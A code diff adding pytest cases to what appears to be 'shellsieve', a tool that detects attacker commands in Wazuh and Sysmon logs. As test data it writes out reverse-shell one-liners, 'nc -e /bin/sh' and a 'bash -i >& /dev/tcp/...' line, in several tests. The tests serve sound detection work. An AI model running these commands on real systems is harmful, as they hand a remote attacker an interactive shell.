@@ -2,18 +2,22 @@
 
 from __future__ import annotations
 
+from collections.abc import Callable
 from pathlib import Path
 import msgspec
 import pytest
 
 from conftest import PHP_FSOCKOPEN, PYTHON_PTY, WEBSHELL_RECON, rule_ids
-from format_samples import Exec, sysmon_evtx, sysmon_winlogbeat, wazuh_audit, wazuh_cmdline
+from format_samples import Exec, sysmon_evtx, sysmon_winlogbeat, wazuh_audit, wazuh_cmdline, wazuh_command
 from shellsieve.cli import build
 from shellsieve.compile.ruleset import Ruleset
 from shellsieve.events.argv import split_windows
+from shellsieve.events.pids import PidTable
 from shellsieve.events.sysmon import from_evtx_json, from_syslog_xml, from_winlogbeat
+from shellsieve.events.wazuh import from_wazuh
 from test_formats import W3WP, run_lines
 
+DEV_TCP = "d860371d-7e87-4ada-9ae2-5a1b352ead7a"  # patterns/shellsieve/reverse_shell_dev_tcp.yml
 RECON = Exec(("python", "-h"), "C:\\Python311\\python.exe", user="SYSTEM", domain="NT-AUTORITÄT",
              windows=True, parent=W3WP)
 
@@ -124,6 +128,42 @@ class TestWazuh:
         doc["data"]["audit"]["execve"]["a2"] = "print(1)"
         docs, _ = run_lines(shipped, [msgspec.json.encode(doc)])
         assert not rule_ids(docs[0])
+
+    @pytest.mark.parametrize("write", [wazuh_cmdline, wazuh_command], ids=["command-log", "command-decoder"])
+    def test_a_command_is_a_process_start(self, write: Callable[[Exec], list[bytes]]) -> None:
+        """A command log's full_log (no decoder read it) and the command decoder's data.command are process
+        starts: category, type, the arguments split as a shell would, and the name."""
+        ex = Exec(("nc", "-e", "/bin/sh", "10.0.0.1", "4444"), "/usr/bin/nc")
+        flat = from_wazuh(msgspec.json.decode(write(ex)[0]), PidTable(16), {})
+        assert flat["event.category"] == ["process"] and flat["event.type"] == ["start"]
+        assert flat["process.command_line"] == ex.command_line and flat["process.args"] == list(ex.args)
+        assert flat["process.name"] == "nc" and flat["event.module"] == "wazuh"
+
+    @pytest.mark.parametrize("decoder", [{}, {"name": ""}, None])
+    def test_archives_without_a_decoder(self, decoder: object) -> None:
+        """Wazuh's archives write `"decoder": {}` for a line no decoder read: a command too."""
+        doc = {"full_log": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "agent": {"name": "web-01"},
+               "location": "/var/log/cmdline", "decoder": decoder}
+        assert from_wazuh(doc, PidTable(16), {})["event.category"] == ["process"]
+
+    def test_a_decoded_log_line_is_not_a_command(self, shipped: Ruleset) -> None:
+        """A full_log a decoder read (sshd) holds no command: no process start, so no process rule reads it,
+        even when its text has a payload's shape."""
+        doc = {"full_log": "sshd[811]: Invalid user bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 from 10.0.0.1",
+               "agent": {"name": "web-01"}, "location": "journald", "decoder": {"name": "sshd"}}
+        flat = from_wazuh(doc, PidTable(16), {})
+        assert "event.category" not in flat and flat["process.command_line"] == doc["full_log"]
+        docs, _ = run_lines(shipped, [msgspec.json.encode(doc)])
+        assert not rule_ids(docs[0])
+
+    @pytest.mark.parametrize("host_os,fires", [("auto", True), ("linux", True), ("none", False)])
+    def test_a_command_gets_the_host_os_of_a_command_line(self, shipped: Ruleset, host_os: str,
+                                                          fires: bool) -> None:
+        """--host-os gives a Wazuh command its OS as it gives a plain command line one: shellsieve's own Linux
+        rules read it under auto and linux, not under none."""
+        ex = Exec(("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "/usr/bin/bash")
+        docs, _ = run_lines(shipped, wazuh_command(ex), host_os=host_os)
+        assert (DEV_TCP in rule_ids(docs[0])) is fires
 
     def test_plain_uppercase_hex_word_is_not_decoded(self) -> None:
         from shellsieve.events.wazuh import _arg_token
